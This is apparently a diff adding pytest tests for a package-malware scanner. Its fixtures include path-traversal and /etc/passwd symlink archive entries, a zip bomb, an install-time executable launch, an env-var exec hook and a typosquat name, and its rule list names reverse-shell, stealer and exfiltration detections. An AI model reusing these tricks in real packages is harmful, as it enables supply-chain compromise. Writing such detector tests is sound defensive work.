+@pytest.mark.parametrize(
+    "source",
+    [HYPERION, "# https://github.com/billythegoat356/Hyperion\n" + HYPERION],
+    ids=["bare", "with-banner"],
+)
+def test_obfuscated_exec_fires_at_import(tmp_path: Path, scanner: Scanner, source: str) -> None:
+    result = scan(write_wheel(tmp_path, {INIT: source}), scanner)
+    assert_fires(result, "obfuscated-exec", Verdict.MALICIOUS, file_endswith=INIT)
+
+
+def test_obfuscated_exec_benign_tuple_rename(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: TUPLE_RENAME_BENIGN}), scanner)
+    assert_quiet(result, "obfuscated-exec")
+    assert not hits(result, "obfuscation")
+
+
+EXEC_VERSION_SETUP = setup_py(
+    'namespace = {}\nexec(open("fixturepkg/version.py").read(), namespace)\nassert namespace["__version__"]\n'
+)
+IMPORT_HOOK = 'import os\n\nexec(os.environ.get("FIXTURE_HOOK", "pass"))\n'
+SAFE_EVAL_LIBRARY = """def evaluate(expression):
+    return eval(expression, {"__builtins__": {}})
+"""
+
+
+def test_dynamic_exec_fires(tmp_path: Path, scanner: Scanner) -> None:
+    path = write_sdist(
+        tmp_path, {f"{DEFAULT_NAME}/version.py": '__version__ = "1.0.0"\n'}, setup_py=EXEC_VERSION_SETUP
+    )
+    result = scan(path, scanner)
+    assert_fires(result, "dynamic-exec", Verdict.CLEAN, severity=Severity.MEDIUM, file_endswith="setup.py")
+
+
+def test_dynamic_exec_fires_at_import(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: IMPORT_HOOK}), scanner)
+    assert_fires(result, "dynamic-exec", Verdict.CLEAN, severity=Severity.LOW, file_endswith=INIT)
+
+
+def test_dynamic_exec_benign_called_only(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/calc.py": SAFE_EVAL_LIBRARY}), scanner)
+    assert_quiet(result, "dynamic-exec")
+
+
+# ---- binaries ------------------------------------------------------------------------------------
+def test_embedded_executable_fires(tmp_path: Path, scanner: Scanner) -> None:
+    member = f"{DEFAULT_NAME}/bin/helper.exe"
+    result = scan(write_sdist(tmp_path, {member: SAMPLE_PE}), scanner)
+    found = assert_fires(result, "embedded-executable", Verdict.CLEAN, severity=Severity.MEDIUM)
+    assert [f.file for f in found] == [PREFIX + member]
+
+
+def test_embedded_executable_fires_under_any_name(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/data/blob.dat": SAMPLE_PE}), scanner)
+    assert_fires(result, "embedded-executable", Verdict.CLEAN, file_endswith="blob.dat")
+
+
+def test_embedded_executable_launched_at_install(tmp_path: Path, scanner: Scanner) -> None:
+    member = f"{DEFAULT_NAME}/bin/helper.exe"
+    source = setup_py(f'subprocess.Popen(["{member}"])\n', imports="import subprocess\n")
+    result = scan(write_sdist(tmp_path, {member: SAMPLE_PE}, setup_py=source), scanner)
+    assert_fires(result, "embedded-executable", Verdict.SUSPICIOUS, severity=Severity.HIGH)
+
+
+def test_embedded_executable_benign(tmp_path: Path, scanner: Scanner) -> None:
+    text_mz = b"MZ is how this data file happens to start; it is not a program." + bytes(64)
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/data/notes.dat": text_mz}), scanner)
+    assert_quiet(result, "embedded-executable")
+    platform_wheel = write_wheel(
+        tmp_path,
+        {f"{DEFAULT_NAME}/helper.exe": SAMPLE_PE},
+        filename=f"{DEFAULT_NAME}-1.0.0-py3-none-win_amd64.whl",
+    )
+    assert_quiet(scan(platform_wheel, scanner), "embedded-executable")
+
+
+# ---- metadata ------------------------------------------------------------------------------------
+def test_typosquat_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, name="reqeusts"), scanner)
+    found = assert_fires(result, "typosquat", Verdict.CLEAN, severity=Severity.MEDIUM)
+    assert "requests" in found[0].reason
+
+
+def test_typosquat_with_risky_behaviour_is_malicious(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, name="reqeusts", setup_py=LOCAL_FETCH_SETUP), scanner)
+    assert_fires(result, "typosquat", Verdict.MALICIOUS)
+
+
+@pytest.mark.parametrize("name", ["requests", "numpy", DEFAULT_NAME])
+def test_typosquat_benign_popular_or_unrelated(tmp_path: Path, scanner: Scanner, name: str) -> None:
+    assert_quiet(scan(write_sdist(tmp_path, name=name), scanner), "typosquat")
+
+
+@pytest.mark.parametrize("version", ["99.0.0", "9999.1", "999"])
+def test_placeholder_version_fires(tmp_path: Path, scanner: Scanner, version: str) -> None:
+    result = scan(write_sdist(tmp_path, version=version), scanner)
+    found = assert_fires(result, "placeholder-version", Verdict.CLEAN)
+    assert found[0].snippet == version
+
+
+@pytest.mark.parametrize("version", ["312", "2024.1", "1.0.0", "0.0.1"])
+def test_placeholder_version_benign(tmp_path: Path, scanner: Scanner, version: str) -> None:
+    assert_quiet(scan(write_sdist(tmp_path, version=version), scanner), "placeholder-version")
+
+
+@pytest.mark.parametrize("kind", ["sdist", "wheel"])
+def test_metadata_missing_fires(tmp_path: Path, scanner: Scanner, kind: str) -> None:
+    if kind == "sdist":
+        path = write_sdist(tmp_path, with_pkg_info=False)
+    else:
+        path = write_wheel(tmp_path, with_metadata=False)
+    assert_fires(scan(path, scanner), "metadata-missing", Verdict.CLEAN, severity=Severity.LOW)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="the catalogue describes metadata-missing as 'No package metadata, or metadata that "
+    "contradicts the file name', but no check compares METADATA Name/Version with the file name",
+)
+def test_metadata_missing_fires_on_mismatch(tmp_path: Path, scanner: Scanner) -> None:
+    path = write_wheel(tmp_path, name="otherpkg", filename=f"{DEFAULT_NAME}-1.0.0-py3-none-any.whl")
+    assert_fires(scan(path, scanner), "metadata-missing", Verdict.CLEAN)
+
+
+def test_metadata_missing_benign(tmp_path: Path, scanner: Scanner) -> None:
+    for path in (write_sdist(tmp_path), write_wheel(tmp_path), write_npm(tmp_path)):
+        assert_quiet(scan(path, scanner), "metadata-missing")
+
+
+# ---- archive structure ---------------------------------------------------------------------------
+def _tar_member(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
+    info = tarfile.TarInfo(name)
+    info.size = len(data)
+    info.mode = 0o644
+    return info, data
+
+
+@pytest.mark.parametrize(
+    ("member", "kind"),
+    [("../escape.py", "path-traversal"), ("/etc/fixturepkg.conf", "absolute-path")],
+)
+def test_archive_unsafe_path_fires(tmp_path: Path, scanner: Scanner, member: str, kind: str) -> None:
+    path = write_sdist(tmp_path, extra_tar_entries=[_tar_member(member, b"VALUE = 1\n")])
+    found = assert_fires(
+        scan(path, scanner), "archive-unsafe-path", Verdict.SUSPICIOUS, severity=Severity.HIGH
+    )
+    assert any(f.file == member and kind in f.reason for f in found)
+
+
+def test_archive_rules_benign(tmp_path: Path, scanner: Scanner) -> None:
+    """A well-formed archive with a small nested fixture zip raises no archive finding."""
+    path = write_sdist(tmp_path, {f"{DEFAULT_NAME}/data/fixtures.zip": nested_zip(2, {"x.txt": "x\n"})})
+    result = scan(path, scanner)
+    archive_rules = {r for r in RULES if r.startswith("archive-")}
+    assert not [f for f in result.findings if f.rule in archive_rules], describe(result)
+    assert result.verdict is Verdict.CLEAN
+
+
+@pytest.mark.parametrize("kind", ["tar-symlink", "tar-hardlink", "zip-symlink"])
+def test_archive_link_fires(tmp_path: Path, scanner: Scanner, kind: str) -> None:
+    link = f"{DEFAULT_NAME}/link.py"
+    if kind == "tar-symlink":
+        path = write_sdist(
+            tmp_path, extra_tar_entries=[tar_special(PREFIX + link, tarfile.SYMTYPE, "/etc/passwd")]
+        )
+        shown = PREFIX + link
+    elif kind == "tar-hardlink":
+        entry = tar_special(PREFIX + link, tarfile.LNKTYPE, PREFIX + "setup.py")
+        path = write_sdist(tmp_path, extra_tar_entries=[entry])
+        shown = PREFIX + link
+    else:
+        infos = [(zipfile.ZipInfo(k), v) for k, v in wheel_entries().items()]
+        infos.append(zip_symlink(link, "/etc/passwd"))
+        path = tmp_path / f"{DEFAULT_NAME}-1.0.0-py3-none-any.whl"
+        path.write_bytes(make_zip_infos(infos))
+        shown = link
+    found = assert_fires(scan(path, scanner), "archive-link", Verdict.CLEAN, severity=Severity.MEDIUM)
+    assert [f.file for f in found] == [shown]
+
+
+@pytest.mark.parametrize(
+    "kind", [tarfile.FIFOTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE], ids=["fifo", "chr", "blk"]
+)
+def test_archive_special_file_fires(tmp_path: Path, scanner: Scanner, kind: bytes) -> None:
+    path = write_sdist(tmp_path, extra_tar_entries=[tar_special(PREFIX + "fixturepkg/dev", kind)])
+    found = assert_fires(
+        scan(path, scanner), "archive-special-file", Verdict.SUSPICIOUS, severity=Severity.HIGH
+    )
+    assert [f.file for f in found] == [PREFIX + "fixturepkg/dev"]
+
+
+def test_archive_bomb_fires(tmp_path: Path, scanner: Scanner) -> None:
+    data = zip_with_zeros(f"{DEFAULT_NAME}/bomb.py", 65 * MiB, others=list(wheel_entries().items()))
+    path = tmp_path / f"{DEFAULT_NAME}-1.0.0-py3-none-any.whl"
+    path.write_bytes(data)
+    found = assert_fires(scan(path, scanner), "archive-bomb", Verdict.SUSPICIOUS, severity=Severity.HIGH)
+    assert [f.file for f in found] == [f"{DEFAULT_NAME}/bomb.py"]
+
+
+def test_archive_limit_fires(tmp_path: Path, scanner: Scanner) -> None:
+    member = f"{DEFAULT_NAME}/data/fixtures.zip"
+    path = write_sdist(tmp_path, {member: nested_zip(4, {"deep.py": "VALUE = 1\n"})})
+    found = assert_fires(scan(path, scanner), "archive-limit", Verdict.CLEAN, severity=Severity.LOW)
+    assert all(f.file.startswith(PREFIX + member + "!/") for f in found)
+    assert "nesting-too-deep" in found[0].reason
+
+
+@pytest.mark.parametrize("kind", ["nested-archive-error", "undecodable-name"])
+def test_archive_unreadable_fires(tmp_path: Path, scanner: Scanner, kind: str) -> None:
+    if kind == "nested-archive-error":
+        broken = b"PK\x03\x04" + b"\x00not really a zip" * 20
+        path = write_sdist(tmp_path, {f"{DEFAULT_NAME}/data/broken.zip": broken})
+    else:
+        name = PREFIX + f"{DEFAULT_NAME}/caf\udce9.py"  # a Latin-1 byte that is not valid UTF-8
+        path = write_sdist(tmp_path, extra_tar_entries=[_tar_member(name, b"VALUE = 1\n")])
+    found = assert_fires(scan(path, scanner), "archive-unreadable", Verdict.CLEAN)
+    assert [f.reason.split(":")[0] for f in found] == [kind]
+
+
+# ---- user rules ----------------------------------------------------------------------------------
+MARKER_MODULE = 'LABEL = "CUSTODY-FIXTURE-MARKER"\n'
+
+
+def _rule_dir(tmp_path: Path, meta: str) -> str:
+    directory = tmp_path / "rules"
+    directory.mkdir()
+    (directory / "fixture.yar").write_text(
+        "rule fixture_marker {\n"
+        f"  meta: {meta}\n"
+        '  strings: $a = "CUSTODY-FIXTURE-MARKER"\n'
+        "  condition: $a\n"
+        "}\n",
+        encoding="utf-8",
+    )
+    return str(directory)
+
+
+def test_user_rule_fires(tmp_path: Path) -> None:
+    rules = _rule_dir(tmp_path, 'description = "fixture marker string"')
+    path = write_sdist(tmp_path, {f"{DEFAULT_NAME}/marked.py": MARKER_MODULE})
+    result = scan(path, Scanner(rule_dirs=(rules,)))
+    found = assert_fires(result, "user-rule", Verdict.SUSPICIOUS, severity=Severity.HIGH)
+    assert found[0].file == PREFIX + f"{DEFAULT_NAME}/marked.py"
+    assert found[0].line == 1
+    assert "fixture_marker" in found[0].reason and "fixture marker string" in found[0].reason
+
+
+def test_user_rule_severity_meta(tmp_path: Path) -> None:
+    rules = _rule_dir(tmp_path, 'description = "fixture marker string" severity = "medium"')
+    path = write_sdist(tmp_path, {f"{DEFAULT_NAME}/marked.py": MARKER_MODULE})
+    assert_fires(
+        scan(path, Scanner(rule_dirs=(rules,))), "user-rule", Verdict.CLEAN, severity=Severity.MEDIUM
+    )
+
+
+def test_user_rule_benign(tmp_path: Path, scanner: Scanner) -> None:
+    path = write_sdist(tmp_path, {f"{DEFAULT_NAME}/marked.py": MARKER_MODULE})
+    assert_quiet(scan(path, scanner), "user-rule")  # rule not loaded: no finding
+    rules = _rule_dir(tmp_path, 'description = "fixture marker string"')
+    assert_quiet(scan(write_wheel(tmp_path), Scanner(rule_dirs=(rules,))), "user-rule")  # no marker
+
+
+def test_user_rule_with_cap_feeds_the_engine(tmp_path: Path) -> None:
+    rules = _rule_dir(tmp_path, 'cap = "exfil-sink" detail = "fixture collector"')
+    source = setup_py('print("CUSTODY-FIXTURE-MARKER")\n')
+    result = scan(write_sdist(tmp_path, setup_py=source), Scanner(rule_dirs=(rules,)))
+    assert not hits(result, "user-rule"), describe(result)
+    assert_fires(result, "exfil-sink", Verdict.SUSPICIOUS, severity=Severity.HIGH)
+
+
+# ---- catalogue coverage --------------------------------------------------------------------------
+POSITIVE_TESTS: dict[str, str] = {
+    "startup-hook": "test_startup_hook_fires",
+    "startup-hook-dangerous": "test_startup_hook_dangerous_fires",
+    "decode-exec": "test_decode_exec_fires",
+    "download-exec": "test_download_exec_fires",
+    "secret-exfiltration": "test_secret_exfiltration_fires",
+    "stealer": "test_stealer_fires",
+    "install-beacon": "test_install_beacon_fires",
+    "install-process": "test_install_process_fires",
+    "install-network": "test_install_network_fires",
+    "reverse-shell": "test_reverse_shell_fires",
+    "cryptominer": "test_cryptominer_fires",
+    "persistence": "test_persistence_fires",
+    "exfil-sink": "test_exfil_sink_fires",
+    "raw-ip-url": "test_raw_ip_url_fires",
+    "pip-install-runtime": "test_pip_install_runtime_fires",
+    "hidden-shell": "test_hidden_shell_fires",
+    "secret-access": "test_secret_access_fires",
+    "spyware": "test_spyware_fires",
+    "anti-analysis": "test_anti_analysis_fires",
+    "obfuscation": "test_obfuscation_fires",
+    "obfuscated-exec": "test_obfuscated_exec_fires_in_setup",
+    "dynamic-exec": "test_dynamic_exec_fires",
+    "embedded-executable": "test_embedded_executable_fires",
+    "setup-cmdclass": "test_setup_cmdclass_fires",
+    "typosquat": "test_typosquat_fires",
+    "placeholder-version": "test_placeholder_version_fires",
+    "metadata-missing": "test_metadata_missing_fires",
+    "archive-unsafe-path": "test_archive_unsafe_path_fires",
+    "archive-link": "test_archive_link_fires",
+    "archive-special-file": "test_archive_special_file_fires",
+    "archive-bomb": "test_archive_bomb_fires",
+    "archive-limit": "test_archive_limit_fires",
+    "archive-unreadable": "test_archive_unreadable_fires",
+    "user-rule": "test_user_rule_fires",
+}
+
+
+def test_every_rule_has_a_positive_test() -> None:
+    assert set(POSITIVE_TESTS) == set(RULES), (
+        f"rules without a positive test: {sorted(set(RULES) - set(POSITIVE_TESTS))}; "
+        f"tests for unknown rules: {sorted(set(POSITIVE_TESTS) - set(RULES))}"
+    )
+    for rule, name in POSITIVE_TESTS.items():
+        test = globals().get(name)
+        assert callable(test), f"{rule}: {name} is not a test in this module"
+        assert not any(m.name == "xfail" for m in getattr(test, "pytestmark", [])), (
+            f"{rule}: its designated positive test {name} is expected to fail"
+        )
